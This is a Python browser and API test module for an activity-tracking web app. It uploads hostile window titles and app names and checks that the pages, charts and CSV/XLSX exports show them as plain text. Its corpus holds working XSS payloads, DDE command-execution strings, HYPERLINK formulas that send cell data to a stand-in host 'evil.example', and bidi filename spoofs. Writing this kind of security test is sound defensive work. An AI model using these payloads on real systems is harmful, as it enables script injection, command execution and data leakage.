"""Hostile titles and app names (issue 13), sent as an agent sends them (enroll, then
batches) and read back everywhere they are shown: the API's answers, every page and
chart in Chromium (counting dialogs and page errors), and the CSV and XLSX exports.

The corpus: XSS (script tags, event handlers, javascript: URLs, SVG onload, attribute
breakers), spreadsheet formulas (with leading spaces and tabs too), bidi overrides and
isolates, plotly template syntax, a very long word, emoji and combining marks; then
what the wire protocol refuses or cleans (docs/api.md, ingest/schemas.py): a 1 MB
title (cut at 1,024 characters), a 1 MB app name (422: `app` ≤ 255), a 5 MB body (413),
NUL characters (removed) and a lone surrogate (400: not JSON the server can store).

Runs in both database passes (not `once`): what is stored, cut and read back is the
storage's business (SQLite and PostgreSQL treat NUL and text differently), and the
module costs a few seconds of setup beside its browser time.
"""

# The fixtures come from a module shared with no conftest (see its docstring): imported
# here, then named as test arguments, which ruff reads as redefinitions.
# ruff: noqa: F811

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from datetime import datetime, timedelta
from typing import Any

import pytest
import requests
from openpyxl import load_workbook

from e2e.test_first_day import API, EMAIL, PASSWORD, _command
from oxytrack.dashboard.tests.browser import (  # noqa: F401 (fixtures)
    Browser,
    chromium,
    web,
    web_server,
)

pytestmark = [pytest.mark.browser, pytest.mark.slow]

MB = 1_000_000
TITLE_MAX = 1024  # settings.OXYTRACK_MAX_TITLE_CHARS, docs/api.md
APP = "hostile.exe"

XSS = [
    "<script>alert('xss-script')</script>",
    "<img src=x onerror=\"alert('xss-img')\">",
    "<a href=\"javascript:alert('xss-href')\">clic</a>",
    "<svg onload=alert('xss-svg')></svg>",
    "\"'><img src=x onerror=alert('xss-break')>",
    "</title><script>document.title='pwned'</script>",
    "{{ 7*7 }} {% csrf_token %} ${7*7}",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '  =HYPERLINK("http://evil.example","espaces")',
    '\t=HYPERLINK("http://evil.example","tab")',
]
BIDI = [
    "Facture \u202egpj.exe",
    "Rapport \u2067\u05e9\u05dc\u05d5\u05dd\u2069 isolé \u2066x\u2069",
]
PLOTLY = [
    "%{x} %{y:.2f} %{label} %{percent}<extra>injecté</extra>",
    "<b>gras</b><br><i>italique</i> %{customdata[0]}",
]
LONG_WORD = "Mot" + "x" * 3000  # cut at 1,024, no space to wrap at
OTHERS = [
    "Émoji 👩🏽‍💻🇫🇷 et marques combinantes Z̷̧̛a̸̢͝l̵̛̛g̶o̴",
]
STORED = XSS + FORMULAS + BIDI + PLOTLY + OTHERS
# Hostile app names (≤ 255 characters: longer ones are refused, docs/api.md).
APPS = [
    "<img src=x onerror=alert('xss-app')>.exe",
    '=HYPERLINK("http://evil.example","app")',
    "%{y}<extra>app</extra>.exe",
    "\u202eexe.gpj",
]


def _device(base: str) -> str:
    """Enroll as the agent does (no display name); the device token."""
    _command("agencies", "add", "Nice", "--time-zone", "Europe/Paris")
    _command("services", "add", "Facturation")
    key = _command("enrollment_key").strip().splitlines()[-1]
    identity = {
        "username": "jdupont",
        "domain": "CORP",
        "hostname": "PC-<img src=x onerror=alert('xss-host')>",
        "os": "Windows 11",
        "agent_version": "0.1.0",
        "time_zone": "Europe/Paris",
        "local_ips": ["192.168.1.20"],
        "agency": "Nice",
        "service": "Facturation",
    }
    reply = requests.post(
        f"{base}{API}/enroll", json=identity, headers={"X-Enrollment-Key": key}, timeout=30
    )
    assert reply.status_code == 201, reply.text
    return str(reply.json()["device_token"])


class Agent:
    """Batches of spans laid back to back from two hours ago, as an agent sends them."""

    def __init__(self, base: str, token: str) -> None:
        self.base = base
        self.token = token
        now = datetime.now().astimezone().replace(microsecond=0)
        self.start = now - timedelta(hours=3)
        self.day = self.start.date()

    def spans(self, pairs: list[tuple[str, str]], seconds: int = 120) -> list[dict[str, Any]]:
        out = []
        for app, title in pairs:
            # The template and bidi titles get the most time: among the pie's 7 slices.
            duration = 2 * seconds if title in PLOTLY or title in BIDI else seconds
            out.append(
                {
                    "start": self.start.isoformat(),
                    "duration_s": duration,
                    "app": app,
                    "title": title,
                    "active": True,
                    "keys": 3,
                    "clicks": 1,
                }
            )
            self.start += timedelta(seconds=duration)
        return out

    def send(self, spans: list[dict[str, Any]] | None = None, raw: bytes | None = None) -> Any:
        if raw is None:
            body = {
                "batch_id": str(uuid.uuid4()),
                "sent_at": datetime.now().astimezone().isoformat(),
                "spans": spans,
            }
            # ensure_ascii: the lone surrogate travels as the escape "\ud800", as a
            # JSON encoder writes it (raw UTF-8 cannot hold it).
            raw = json.dumps(body, ensure_ascii=True).encode()
        return requests.post(
            f"{self.base}{API}/batches",
            data=raw,
            headers={"Authorization": f"Bearer {self.token}", "Content-Type": "application/json"},
            timeout=60,
        )


def _counts() -> tuple[int, int, int]:
    from oxytrack.activity.models import Span, Window
    from oxytrack.ingest.models import Batch

    return Batch.objects.count(), Span.objects.count(), Window.objects.count()


def _assert_refused(reply: Any, status: int, code: str) -> None:
    assert reply.status_code == status, reply.text
    assert reply.headers["Content-Type"].startswith("application/json")
    body = reply.json()
    assert body["code"] == code, body
    assert isinstance(body["message"], str) and body["message"], body


def upload_corpus(base: str) -> Agent:
    """The stored part of the corpus (one batch), the cleaned and the refused ones,
    each answer checked, nothing stored by a refused batch."""
    agent = Agent(base, _device(base))
    pairs = [(APP, title) for title in STORED] + [(app, f"Fenêtre de {app}") for app in APPS]
    # The hostile titles get the most time: in the pie's slices and the bars.
    reply = agent.send(agent.spans(pairs, seconds=240))
    assert reply.status_code == 200, reply.text
    assert reply.json()["accepted"] == len(pairs)

    # Cleaned, stored: NUL removed, a 1 MB title and a long word cut at 1,024.
    reply = agent.send(
        agent.spans([(APP, "NUL\x00au\x00milieu"), (APP, "T" * MB), (APP, LONG_WORD)], seconds=60)
    )
    assert reply.status_code == 200, reply.text
    assert reply.json() == {**reply.json(), "accepted": 3, "duplicate": False}

    before = _counts()
    # A lone surrogate: pydantic's JSON reader refuses the escape, the batch is refused.
    _assert_refused(agent.send(agent.spans([(APP, "seul \ud800 ici")])), 400, "malformed")
    # A 1 MB app name: `app` is at most 255 characters.
    _assert_refused(agent.send(agent.spans([(APP, "ok"), ("A" * MB, "ok")])), 422, "invalid_field")
    # A body past 4 MiB: refused before it is read.
    _assert_refused(agent.send(agent.spans([(APP, "B" * (5 * MB))])), 413, "too_large")
    assert _counts() == before  # no half-written batch
    return agent


def stored(text: str) -> str:
    """What the server keeps of a title (docs/api.md): control characters removed."""
    from oxytrack.ingest.schemas import CONTROL_CHARACTERS

    return CONTROL_CHARACTERS.sub("", text)[:TITLE_MAX]


def _stored_titles() -> set[str]:
    from oxytrack.activity.models import Window

    return set(Window.objects.values_list("title", flat=True))


def test_the_api_stores_or_refuses_each_hostile_batch_clearly(web_server: str) -> None:
    upload_corpus(web_server)
    titles = _stored_titles()
    for title in STORED:
        assert stored(title) in titles, title  # as sent, control characters removed
    assert '=HYPERLINK("http://evil.example","tab")' in titles  # the tab is a control
    assert "NULaumilieu" in titles  # NUL removed (never a 500 on PostgreSQL)
    assert "T" * TITLE_MAX in titles
    assert LONG_WORD[:TITLE_MAX] in titles
    assert not any("\x00" in t or "\ud800" in t for t in titles)
    assert max(len(t) for t in titles) == TITLE_MAX


# What the corpus would create if any of it ran or became markup.
_PLANTED = """() => ({
  imgs: document.querySelectorAll('img[src="x"], img[onerror]').length,
  scripts: Array.from(document.scripts).filter(
    s => s.type !== 'application/json' && /xss|pwned/.test(s.textContent)).length,
  // json_script data: one element each, whole (a "</script>" in it would end it early).
  data: Array.from(document.querySelectorAll('script[type="application/json"]')).filter(
    s => { try { JSON.parse(s.textContent); return false; } catch (e) { return true; } }).length,
  svgs: document.querySelectorAll('svg[onload]').length,
  links: document.querySelectorAll('a[href^="javascript:"]').length,
  bolds: Array.from(document.querySelectorAll('b, i')).filter(
    e => /gras|italique/.test(e.textContent)).length,
  title: document.title,
})"""


def _clean_page(web: Browser, path: str, wait: str | None = None) -> dict[str, Any]:
    """Open `path`, wait for `wait` (a selector), check nothing of the corpus ran."""
    web.go(path)
    if wait:
        web.page.wait_for_selector(wait)
    planted = web.page.evaluate(_PLANTED)
    assert planted["imgs"] == planted["scripts"] == planted["svgs"] == planted["data"] == 0, (
        path,
        planted,
    )
    assert planted["links"] == planted["bolds"] == 0, (path, planted)
    assert "pwned" not in planted["title"] and "<" not in planted["title"], (path, planted)
    assert web.dialogs == [] and web.errors == [], (path, web.dialogs, web.errors)
    return planted


def _hover_texts(web: Browser, chart: str, marks: str) -> list[str]:
    """Hover each drawn mark of a plotly chart as a mouse does; the hover boxes' text."""
    page = web.page
    texts = []
    for mark in page.locator(f"{chart} {marks}").all():
        box = mark.bounding_box()
        if box is None or box["width"] < 2 or box["height"] < 2:
            continue
        mark.scroll_into_view_if_needed()
        box = mark.bounding_box()
        assert box is not None
        # plotly's drag layer lies over the marks: move the mouse, do not hover the node.
        page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        label = page.locator(f"{chart} .hoverlayer .hovertext")
        try:
            label.first.wait_for(timeout=2000)
        except Exception:  # noqa: S112 (a slice too thin to take the pointer)
            continue
        texts.extend(t or "" for t in label.all_text_contents())
        page.mouse.move(0, 0)
    return texts


def test_every_page_shows_the_corpus_as_text(web: Browser, web_server: str) -> None:
    from oxytrack.analytics.team import team_key
    from oxytrack.org.models import Agency, Employee, Service

    agent = upload_corpus(web_server)
    _command("create_superadmin", "--email", EMAIL, "--password-stdin", stdin=PASSWORD + "\n")
    employee = Employee.objects.get(username="jdupont")
    team = team_key(Agency.objects.get().pk, Service.objects.get().pk)
    page = web.page
    page.set_default_timeout(30_000)  # two cores shared: a first load may be slow
    web.login(EMAIL, PASSWORD)
    title = page.title()

    for path in ("/", "/?q=%3Cimg", "/search/?machine=%3Cimg+src%3Dx", "/search/?name=DUPONT"):
        _clean_page(web, path, "#employees-body tbody")
        assert page.locator("#employees-body tbody tr", has_text="jdupont").count() == 1, path
    assert page.title() == title.replace("Accueil", "Recherche")  # unchanged by the corpus

    detail = f"/employees/{employee.public_id}/"
    day = agent.day.isoformat()
    for group in ("title", "app", "category"):
        _clean_page(web, f"{detail}?group={group}", "#pie-chart .main-svg")
    # Titles as written in the table, the bidi ones isolated and their controls marked.
    _clean_page(web, f"{detail}?group=title&per_page=100", "#titles-body tbody")
    # textContent: innerText would collapse the leading spaces of a formula.
    cells = page.locator("#titles-body tbody td bdi").all_text_contents()
    for text in STORED:
        assert stored(text) in cells, text
    marks = page.evaluate(
        """Array.from(document.querySelectorAll('#titles-body .bidi-control'))
             .map(m => getComputedStyle(m, '::before').content)"""
    )
    assert {'"⟨RLO⟩"', '"⟨RLI⟩"', '"⟨PDI⟩"', '"⟨LRI⟩"'} <= set(marks), marks

    # The pie's legend and hover boxes: template syntax and markup as written.
    legend = page.evaluate(
        "Array.from(document.querySelectorAll('#pie-chart .legendtext')).map(e => e.textContent)"
    )
    assert not any("\u202e" in t or "\u2067" in t for t in legend), legend
    hovers = _hover_texts(web, "#pie-chart", "path.surface")
    joined = "\n".join(hovers + legend)
    assert PLOTLY[0] in joined, joined
    assert PLOTLY[1] in joined, joined
    assert "Facture ⟨RLO⟩gpj.exe" in joined, joined
    assert "Rapport ⟨RLI⟩" in joined, joined
    # Its hover box: our "%{percent}" as written, then the share plotly computed.
    box = next(t for t in hovers if PLOTLY[0] in t)
    assert re.search(r"\d,\d+\s?%", box.replace(PLOTLY[0], "")), box

    # Grouped by app: the hostile app names in the pie, as written.
    _clean_page(web, f"{detail}?group=app", "#pie-chart .main-svg")
    legend = page.evaluate(
        "Array.from(document.querySelectorAll('#pie-chart .legendtext')).map(e => e.textContent)"
    )
    joined = "\n".join(_hover_texts(web, "#pie-chart", "path.surface") + legend)
    assert "%{y}<extra>app</extra>.exe" in joined, joined
    assert "<img src=x onerror=alert('xss-app')>.exe" in joined, joined
    assert "⟨RLO⟩exe.gpj" in joined, joined

    # The day's timeline.
    _clean_page(web, f"{detail}?start={day}&end={day}&day={day}", "#timeline-chart .main-svg")

    # The team overview, the team's and the employee's trends: bars hovered.
    _clean_page(web, f"/analytics/team/?team={team}", "#category-days-chart .main-svg")
    _clean_page(web, f"/analytics/trends/team/?team={team}", "#trends-chart .main-svg")
    _clean_page(
        web, f"/analytics/trends/employees/{employee.public_id}/", "#trends-chart .main-svg"
    )

    # The category form's preview: a pattern that matches the corpus, its titles as text.
    _clean_page(web, "/settings/categories/new/", "#category-form")
    page.fill("#category-form [name=title_pattern]", "xss|HYPERLINK|%\\{")
    page.locator("#category-preview", has_text="xss").wait_for()
    _assert_clean(web, "categories preview")
    preview = page.locator("#category-preview").inner_text()
    assert "<script>alert('xss-script')</script>" in preview, preview
    assert "%{x} %{y:.2f}" in preview, preview

    # The audit log: the enrolment (a hostile host name) and an export with a hostile filter.
    export = page.request.get(
        f"{web_server}{detail}export.csv",
        params={"start": day, "end": day, "q": "<svg onload=alert(1)>"},
    )
    assert export.status == 200, export.text()
    _clean_page(web, "/audit/", "table")
    audit = page.locator("main").text_content() or ""
    assert "<svg onload=alert(1)>" in audit, audit  # the export's filter, as text
    assert page.title() != "" and "pwned" not in page.title()


def _assert_clean(web: Browser, where: str) -> dict[str, Any]:
    """No element of the corpus's making, no dialog, no page error, the title intact."""
    planted = web.page.evaluate(_PLANTED)
    made = {k: planted[k] for k in ("imgs", "scripts", "svgs", "data", "links", "bolds")}
    assert made == dict.fromkeys(made, 0), (where, planted)
    assert "pwned" not in planted["title"] and "<" not in planted["title"], (where, planted)
    assert web.dialogs == [] and web.errors == [], (where, web.dialogs, web.errors)
    return planted


# What a spreadsheet reads as a formula (web/export.py's csv_cell), also after blanks:
# LibreOffice's CSV import may trim them ("Trim spaces"), Excel's Power Query does.
_FORMULA = re.compile(r"^[\s]*[=+\-@]")


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode()), data[:20]  # the BOM, so Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_rows(data: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    rows = []
    for row in sheet.iter_rows():
        for cell in row:
            # Typed text (or a number or date): never a formula, whatever it starts with.
            assert cell.data_type != "f", (cell.coordinate, cell.value)
        rows.append([cell.value for cell in row])
    return rows


def _exported(value: str) -> str:
    """A stored text as an export writes it: bidi controls as marks, then the formula guard."""
    from oxytrack.web.export import csv_cell
    from oxytrack.web.formatting import chart_label

    return csv_cell(chart_label(value))


def _neutral(rows: list[list[Any]], where: str) -> list[str]:
    """Every text cell of `rows`; none that a spreadsheet would run."""
    texts = [c for row in rows for c in row if isinstance(c, str)]
    for text in texts:
        assert not _FORMULA.match(text), (where, text)
    return texts


def test_exports_neutralise_every_formula_and_keep_the_text(web: Browser, web_server: str) -> None:
    from oxytrack.org.models import Employee

    agent = upload_corpus(web_server)
    _command("create_superadmin", "--email", EMAIL, "--password-stdin", stdin=PASSWORD + "\n")
    employee = Employee.objects.get(username="jdupont")
    web.page.set_default_timeout(30_000)
    web.login(EMAIL, PASSWORD)
    day = agent.day.isoformat()
    detail = f"/employees/{employee.public_id}/export.csv"
    downloads = {
        "titres": (detail, {"start": day, "end": day}),
        "applications": (detail, {"start": day, "end": day, "group": "app"}),
        "accueil": ("/", {}),
        # A filter the audit log then records: the formula reaches its export too.
        "filtre": (detail, {"start": day, "end": day, "q": FORMULAS[0][:20]}),
        "audit": ("/audit/", {}),
    }
    texts: dict[str, list[str]] = {}
    for name, (path, params) in downloads.items():
        for fmt in ("csv", "xlsx"):
            reply = web.page.request.get(web_server + path, params={**params, "format": fmt})
            assert reply.status == 200, (name, fmt, reply.status, reply.text()[:300])
            assert "attachment" in reply.headers["content-disposition"], (name, fmt)
            body = reply.body()
            rows = _csv_rows(body) if fmt == "csv" else _xlsx_rows(body)
            texts[f"{name}.{fmt}"] = _neutral(rows, f"{name}.{fmt}")

    for fmt in ("csv", "xlsx"):
        titles = texts[f"titres.{fmt}"]
        # Every hostile title round-trips: as stored, bidi controls marked, formulas quoted.
        for title in [*STORED, "NUL\x00au\x00milieu", "T" * MB, LONG_WORD]:
            assert _exported(stored(title)) in titles, (fmt, title[:80])
        assert '\'=HYPERLINK("http://evil.example","tab")' in titles  # its tab removed
        assert "Facture ⟨RLO⟩gpj.exe" in titles
        assert not any("\x00" in t or "\ud800" in t or "\u202e" in t for t in titles)
        apps = texts[f"applications.{fmt}"]
        assert '\'=HYPERLINK("http://evil.example","app")' in apps, apps
        assert "⟨RLO⟩exe.gpj" in apps, apps
        assert len(texts[f"filtre.{fmt}"]) > 1  # the header and the matching title
        # The audit entry's detail (JSON text, starting with "{"): the filter as typed.
        assert any("=HYPERLINK" in t for t in texts[f"audit.{fmt}"]), texts[f"audit.{fmt}"]
        # The enrolment's host name on the home table.
        assert any("PC-<img src=x onerror=alert('xss-host')>" in t for t in texts[f"accueil.{fmt}"])
